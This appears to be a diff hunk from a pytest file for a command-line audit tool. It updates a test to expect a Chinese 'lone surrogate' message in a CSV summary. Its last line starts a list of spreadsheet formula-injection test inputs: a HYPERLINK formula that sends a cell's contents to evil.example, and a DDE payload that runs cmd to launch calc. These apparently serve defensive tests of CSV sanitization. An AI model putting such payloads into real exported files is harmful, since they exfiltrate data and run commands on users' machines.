@@ -231,7 +231,7 @@ def test_lone_surrogate_in_json(tmp_path: Path, capsys: pytest.CaptureFixture[st
     assert code == 2 and "孤立的代理码位" in err and "'\\ud800标题'" in err
     code, _, _ = run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/")
     assert code == 2
-    assert "lone surrogate" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")
+    assert "孤立的代理码位" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")
 
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
